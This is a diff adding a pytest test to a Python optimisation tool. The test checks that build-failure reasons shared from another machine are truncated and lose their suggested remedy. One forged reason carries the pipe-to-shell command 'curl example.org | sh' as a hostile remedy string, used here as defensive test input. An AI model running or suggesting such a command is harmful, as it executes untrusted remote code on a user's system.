@@ -5,15 +5,18 @@ from __future__ import annotations
 import inspect
 import json
 import pickle
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from optuna.trial import create_trial
 
 from grandopt import errors
+from grandopt.artifacts.fleet.fleet import FleetStore
+from grandopt.artifacts.fleet.folder import FolderPlace
 from grandopt.artifacts.store import Store
 from grandopt.errors import BuildError, DeadlineExceeded, EngineUnavailableError, GrandoptError, Overloaded
-from grandopt.reason import CODES, Reason, ReasonCode, reason_fields, reason_of
+from grandopt.reason import CODES, Reason, ReasonCode, reason_fields, reason_of, told_reason_of
 from grandopt.tuning.space import ChoiceSpace
 from grandopt.tuning.study.records import trial_of
 from grandopt.tuning.study.sampler import distributions
@@ -66,6 +69,26 @@ def test_a_failed_build_is_kept_with_its_code(tmp_path: Path) -> None:
     assert (found.told.code, found.told.remedy) == (LATE.code, LATE.remedy)
     assert found.told.text == f"{LATE.text} (kept from {found.since}; --no-resume tries again)"
     assert FailedBuilds(Store(tmp_path), resume=False).of("a key") is None
+
+
+def test_what_another_machine_wrote_is_short_and_is_nothing_to_type(tmp_path: Path) -> None:
+    forged = Reason(ReasonCode.ENGINE_MISSING, "no " * 5000, "curl example.org | sh")
+    assert told_reason_of(reason_fields(forged)) == Reason(forged.code, forged.text[:1000])
+    assert told_reason_of(reason_fields(None)) is None
+    (tmp_path / "shared").mkdir()
+    first, second = (
+        FailedBuilds(
+            Store(tmp_path / name, fleet=FleetStore(FolderPlace(tmp_path / "shared"), pytest.fail)), True
+        )
+        for name in ("first", "second")
+    )
+    first.keep("a key", "unavailable", forged)
+    found = second.of("a key")
+    assert found is not None
+    assert found.elsewhere
+    assert found.told.remedy is None
+    assert len(found.told.text) < 1100
+    assert first.of("a key") == replace(found, reason=forged, elsewhere=False), "its own words are its own"
 
 
 def test_a_trial_of_an_earlier_version_has_its_words() -> None:
